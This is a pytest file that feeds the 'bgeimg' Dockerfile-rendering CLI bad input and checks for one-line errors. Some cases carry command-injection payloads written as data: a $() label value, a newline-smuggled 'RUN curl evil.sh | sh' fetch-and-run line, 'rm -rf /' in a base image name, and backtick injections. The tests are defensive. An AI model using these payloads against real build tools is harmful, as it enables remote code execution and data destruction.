"""Bad inputs through the real CLI entry point: one line saying what is wrong and how to fix it, exit 2,
no traceback, nothing written."""

from __future__ import annotations

import sys
from pathlib import Path

import pytest

from bgeimg.cli.app import main


def run_cli(args: list[str], capsys, monkeypatch, cwd: Path) -> tuple[int, str, str]:
    monkeypatch.chdir(cwd)
    monkeypatch.setattr(sys, "argv", ["bgeimg", *args])
    with pytest.raises(SystemExit) as info:
        main()
    captured = capsys.readouterr()
    return info.value.code, captured.out, captured.err


def write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


CASES = {
    "bad YAML": (
        {"bgeimg.yaml": "profile: cpu-slim\nserver: [port: 1\n"},
        ["render"],
        "error: {tmp}/bgeimg.yaml:3:1: expected ',' or ']', but got '<stream end>' (fix the YAML syntax)",
    ),
    "unknown key with suggestion": (
        {"bgeimg.yaml": "serverr:\n  port: 1\n"},
        ["render"],
        "error: {tmp}/bgeimg.yaml: serverr: unknown key 'serverr' (did you mean 'server'?)",
    ),
    "unknown nested key with suggestion": (
        {},
        ["render", "--set", "server.prot=9000"],
        "error: --set server.prot: server.prot: unknown key 'prot' (did you mean 'port'?)",
    ),
    "wrong type": (
        {},
        ["render", "--set", "server.port=abc"],
        "error: --set server.port: server.port: Input should be a valid integer, unable to parse string as an "
        "integer (got 'abc')",
    ),
    "out of range": (
        {},
        ["render", "--set", "server.port=70000"],
        "error: --set server.port: server.port: Input should be less than or equal to 65535 (got 70000)",
    ),
    "value not among the allowed": (
        {},
        ["render", "--set", "device=tpu"],
        "error: --set device: device: 'tpu' is not allowed; expected 'cpu' or 'cuda'",
    ),
    "unknown profile": (
        {},
        ["render", "--profile", "cpu-slin"],
        "error: unknown profile 'cpu-slin' (did you mean 'cpu-slim'?)",
    ),
    "unknown profile in extends": (
        {"profiles/mine.yaml": "extends: gpu-fast\n"},
        ["render", "--profile", "mine", "--profiles-dir", "profiles"],
        "error: unknown profile 'gpu-fast' (extended by 'mine') (choose one of: cpu-slim, cuda-runtime, "
        "external-model, gpu, mine, onnx-cpu, onnx-external)",
    ),
    "extends loop": (
        {"profiles/a.yaml": "extends: b\n", "profiles/b.yaml": "extends: a\n"},
        ["render", "--profile", "a", "--profiles-dir", "profiles"],
        "error: profile 'a': extends loops: a -> b -> a",
    ),
    "missing template": (
        {},
        ["render", "--set", "template=/nonexistent/my.Dockerfile.j2"],
        "error: template /nonexistent/my.Dockerfile.j2 not found (fix `template:` in the profile or config)",
    ),
    "template using an unknown value": (
        {"t.j2": '{% extends "Dockerfile.j2" %}{% block footer %}{{ secret_token }}{% endblock %}'},
        ["render", "--set", "template={tmp}/t.j2"],
        "error: t.j2: 'secret_token' is undefined (templates may only use the values bgeimg provides)",
    ),
    "shell injection in a label": (
        {"bgeimg.yaml": "labels:\n  team: foo$(touch /tmp/pwned)\n"},
        ["render"],
        "error: {tmp}/bgeimg.yaml: labels: 'foo$(touch /tmp/pwned)' is not a valid value for label team (no quotes, "
        "'$', backslash or control characters)",
    ),
    "newline injection in a requirement": (
        {"bgeimg.yaml": 'requirements: ["torch\\nRUN curl evil.sh | sh"]\n'},
        ["render"],
        "error: {tmp}/bgeimg.yaml: requirements: 'torch\\nRUN curl evil.sh | sh' is not a single requirement",
    ),
    "injection in the base image": (
        {},
        ["render", "--set", "base_image=python:3.11;rm -rf /"],
        "error: --set base_image: base_image: 'python:3.11;rm -rf /' is not a valid image reference "
        "(name[:tag][@sha256:digest])",
    ),
    "credentials in a mirror URL": (
        {},
        ["render", "--set", "mirrors.pip_index_url=https://user:pw@pypi.corp/simple"],
        "error: --set mirrors.pip_index_url: mirrors.pip_index_url: URL carries credentials; pass them as a build "
        "secret, never in a profile",
    ),
    "hf source without id": (
        {},
        ["render", "--set", "model.id=null"],
        "error: --set model.id: model: source 'hf' needs an id such as BAAI/bge-m3",
    ),
    "set without equals": (
        {},
        ["render", "--set", "server.port"],
        "error: --set 'server.port': expected key.path=value (for example --set server.port=9000)",
    ),
    "config file not found": (
        {},
        ["render", "--config", "nope.yaml"],
        "error: nope.yaml: config file not found (give an existing file to --config)",
    ),
    "top level is not a mapping": (
        {"bgeimg.yaml": "- cpu-slim\n"},
        ["render"],
        "error: {tmp}/bgeimg.yaml: expected a mapping of keys at the top level, got list",
    ),
}


@pytest.mark.parametrize("case", list(CASES))
def test_bad_input_gives_one_clear_line(case: str, tmp_path: Path, capsys, monkeypatch) -> None:
    files, args, expected = CASES[case]
    for rel, text in files.items():
        write(tmp_path / rel, text)
    out_dir = tmp_path / "out"
    args = [a.replace("{tmp}", str(tmp_path)) for a in args] + ["-o", str(out_dir)]
    code, out, err = run_cli(args, capsys, monkeypatch, tmp_path)
    assert code == 2
    assert err.strip() == expected.replace("{tmp}", str(tmp_path))
    assert "Traceback" not in err and err.count("\n") == 1
    assert not out_dir.exists(), "nothing may be written on bad input"


@pytest.mark.parametrize("value", ["x$(touch {m})", "x`touch {m}`", 'x" \\\nRUN touch {m}', "x\\\nRUN touch {m}",
                                   "x\nRUN touch {m}", "'x\n\nRUN touch {m}'"])
@pytest.mark.parametrize("key", ["env.FOO", "labels.team", "description", "model.path", "requirements"])
def test_injection_cannot_add_an_instruction(key: str, value: str, tmp_path: Path, capsys, monkeypatch) -> None:
    marker = tmp_path / "pwned"
    value = value.replace("{m}", str(marker))
    if key == "requirements":
        value = f"[{value}]"
    monkeypatch.setattr(sys, "argv", ["bgeimg", "render", "--set", f"{key}={value}"])
    try:
        main()
        code = 0
    except SystemExit as exc:
        code = exc.code
    out, err = capsys.readouterr()
    # Either refused with one line, or rendered with the value confined to its own instruction.
    if code:
        assert code == 2 and err.startswith("error: ") and "Traceback" not in err
    else:
        assert not any(line.lstrip().startswith("RUN touch") for line in out.splitlines())
    assert not marker.exists()


@pytest.mark.parametrize(("args", "expected"), [
    (["render", "--bogus"], "error: No such option: --bogus (see bgeimg render --help)"),
    (["promote"], "error: Missing argument 'source'. (see bgeimg promote --help)"),
    (["frobnicate"], "error: No such command 'frobnicate'. (see bgeimg --help)"),
])
def test_usage_errors_are_one_line(args, expected, capsys, monkeypatch, tmp_path) -> None:
    code, out, err = run_cli(args, capsys, monkeypatch, tmp_path)
    assert code == 2 and err.strip() == expected and "Traceback" not in err
